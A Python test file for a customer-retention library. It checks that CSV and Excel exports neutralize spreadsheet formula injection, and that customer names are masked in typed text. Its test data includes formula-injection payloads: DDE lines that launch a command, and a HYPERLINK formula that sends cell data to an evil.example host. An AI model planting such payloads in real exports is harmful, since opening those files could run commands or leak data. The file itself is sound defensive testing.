"""Nothing that is exported runs in a spreadsheet, and the mask holds in what people type."""

from __future__ import annotations

import csv
import re
import zipfile

import duckdb
import openpyxl
import pandas as pd
import pytest

import retention_lib as rl
from retention_lib.base.customer_base import CustomerBase
from retention_lib.base.known_names import known_names, without_names
from retention_lib.decisions import plan_files
from retention_lib.scoring import streaming
from retention_lib.views import _report_files
from retention_lib.wording import Wording, safe_cell, unsafe_cell

FORMULAS = (
    "=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1+1",
    "\uff1d1+1", "\uff20SUM(A1)", "\ufeff=1", "\u200b=1", "\u202e=1", "\x00=1",
    '=HYPERLINK("http://evil.example?"&A1,"x")', "=cmd|'/c calc'!A1",
)  # fmt: skip


def guarded(text):
    """With an apostrophe before it, and before what a new line would begin."""
    return "'" + re.sub(r"([\r\n])(?==)", r"\1'", text)


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_that_begins_like_a_formula_stays_one_and_each_comes_back(text):
    assert safe_cell(text) == guarded(text)
    assert unsafe_cell(safe_cell(text)) == text


@pytest.mark.parametrize("mark", [";", ",", "\n", '; "', ",\u200b"])
@pytest.mark.parametrize("text", ["=1+1", "@SUM(A1)", "+cmd|' /C calc'!A0", "\uff1d1"])
def test_what_a_spreadsheet_of_another_country_takes_for_a_cell_is_no_formula_either(mark, text):
    whole = f"Shop{mark}{text}{mark}end"
    safe = str(safe_cell(whole))
    cells = re.split("[;,\r\n]", safe)
    assert not [cell for cell in cells if re.match(r"[\s\"\u200b]*[=+@\uff1d]", cell)]
    assert unsafe_cell(safe) == whole


@pytest.mark.parametrize(
    "kept",
    [
        "down 3 %, -20 %",
        "Ann, Bo; Léa",
        "-12,50",
        "- 3",
        "+33 1 02 03",
        "a=b",
        "O'Neil",
        "",
        7,
        -3.5,
    ],
)
def test_amounts_phones_and_plain_words_stay_as_they_are(kept):
    assert safe_cell(kept) == kept


def test_a_plan_and_a_report_as_csv_hold_no_formula_in_cells_or_headings(tmp_path):
    frame = pd.DataFrame({"customer_id": list(FORMULAS), "=evil": list(FORMULAS)})
    frame["amount"] = -12.5
    plan_files._write_text(frame, tmp_path / "plan.csv", Wording("en"))
    with (tmp_path / "plan.csv").open(encoding="utf-8-sig", newline="") as file:
        heads, *rows = list(csv.reader(file))
    assert heads == ["customer_id", "'=evil", "amount"]
    assert [row[0] for row in rows] == list(map(guarded, FORMULAS))
    assert {row[2] for row in rows} == {"-12.5"}


def test_an_excel_file_holds_texts_and_neither_formulas_nor_links(tmp_path):
    frame = pd.DataFrame({"customer_id": [*FORMULAS, "http://evil.example"]})
    file = tmp_path / "customers.xlsx"
    named = {"customer_id": "report.heading.customer_id"}
    assert Wording("en").has(named["customer_id"])
    _report_files.write_xlsx(frame, file, Wording("en"))
    cells = [cell for sheet in openpyxl.load_workbook(file) for row in sheet for cell in row]
    assert not [cell.value for cell in cells if cell.data_type == "f" or cell.hyperlink]
    assert "=1+1" in [cell.value for cell in cells]
    with zipfile.ZipFile(file) as packed:
        names = packed.namelist()
    assert not [name for name in names if "external" in name or "vba" in name.lower()]


def test_scores_streamed_to_a_file_hold_no_formula(tmp_path):
    connection = duckdb.connect()
    frame = pd.DataFrame({"customer_id": [*FORMULAS, "a;=1"], "churn_probability": 0.5})
    file = tmp_path / "scores.csv"
    streaming._write_csv(connection.from_df(frame), file, Wording("en"))
    with file.open(encoding="utf-8-sig", newline="") as read:
        ids = [row[0] for row in csv.reader(read)][1:]
    assert len(ids) == len(frame) and "a;'=1" in ids
    assert [unsafe_cell(one) for one in ids] == list(frame["customer_id"])
    assert all(one.startswith("'") for one in ids if one != "a;'=1")


def test_ideas_in_excel_are_texts(base, tmp_path):
    board = rl.open_ideas(base, keep=False)
    for text in ("=1+1", "@SUM(A1)", "http://evil.example"):
        board = board.add(text, owner=text, cost=5)
    book = openpyxl.load_workbook(board.to_excel(tmp_path / "ideas.xlsx"))
    cells = [cell for sheet in book for row in sheet for cell in row]
    assert "=1+1" in [cell.value for cell in cells]
    assert not [c.value for c in cells if c.hyperlink or (c.data_type == "f" and "1+1" in c.value)]


def test_names_in_a_column_of_ones_own_are_masked_where_it_makes_the_groups(base, monkeypatch):
    sales = base.to_pandas("transactions")
    customers = base.to_pandas("customers").assign(parent=["Group of Dupont & Fils", "North"])
    own = CustomerBase.from_tables(sales, customers=customers, language="en")
    assert "Dupont" in rl.profile_segments(own, by="parent")._repr_html_()
    monkeypatch.setenv("RETENTION_MASK", "1")
    shown = rl.profile_segments(own, by="parent")._repr_html_()
    assert "Dupont" not in shown and "Group of" in shown and "North" in shown


def test_a_name_of_two_letters_is_found_as_it_is_written():
    names = {"HP": "Customer 1"}
    assert without_names("HP, hp, HPE", names) == "Customer 1, hp, HPE"


@pytest.mark.parametrize(
    ("name", "typed"),
    [
        ("L\u00e9a D'Arc", "Lea d\u2019ARC"),
        ("L\u00e9a D'Arc", "Le\u0301a\u00a0 D'Arc"),
        ("Stra\u00dfe GmbH", "STRASSE GmbH"),
        ("Strasse GmbH", "Stra\u00dfe GmbH"),
        ("Dupont", "_dupont_"),
    ],
)
def test_a_name_is_found_however_it_is_typed(name, typed):
    lines = pd.DataFrame({"customer_id": ["1"], "date": ["2024-01-05"], "amount": [1.0]})
    named = pd.DataFrame({"customer_id": ["1"], "name": [name]})
    names = known_names(CustomerBase.from_tables(lines, customers=named, language="en"))
    said = without_names(f"Call {typed}, please", names)
    assert said.replace("_", "") == f"Call {names[next(iter(names))]}, please"


@pytest.fixture(scope="module")
def base():
    sales = pd.DataFrame(
        {"customer_id": ["C-001", "C-002"] * 3, "date": ["2024-01-05"] * 2 + ["2024-06-05"] * 4}
    )
    sales["amount"] = 10.0
    customers = pd.DataFrame(
        {
            "customer_id": ["C-001", "C-002"],
            "name": ["Dupont & Fils", "Léa Šimić"],
            "email": ["a@dupont.example", None],
        }
    )
    return CustomerBase.from_tables(sales, customers=customers, language="en")


def test_names_that_the_base_knows_are_replaced_in_what_people_type(base):
    names = known_names(base)
    said = without_names("Call LÉA ŠIMIĆ (C-002, not C-0021) or a@dupont.example", names)
    assert "ŠIMIĆ" not in said and "C-002," not in said and "dupont" not in said
    assert "C-0021" in said
    assert without_names("Call everybody", names) == "Call everybody"


def test_ideas_name_nobody_behind_the_mask_and_keep_their_words_on_file(
    base, monkeypatch, tmp_path
):
    board = rl.open_ideas(base, keep=False).add("Ring Dupont & Fils", cost=100)
    assert "Dupont" in board.sentence_of(1)
    masked_file = board.to_excel(tmp_path / "masked.xlsx", masked=True)
    monkeypatch.setenv("RETENTION_MASK", "1")
    again = board.add("Write to Léa Šimić", cost=50)
    shown = again._repr_html_() + str(again.sentence_of(1)) + again.sentence_of(2)
    assert "Dupont" not in shown and "Šimić" not in shown and "Write to" in shown
    assert again.idea(1).idea == "Ring Dupont & Fils"
    book = openpyxl.load_workbook(masked_file)
    cells = " ".join(str(cell.value) for sheet in book for row in sheet for cell in row)
    assert "Dupont" not in cells and "Ring" in cells
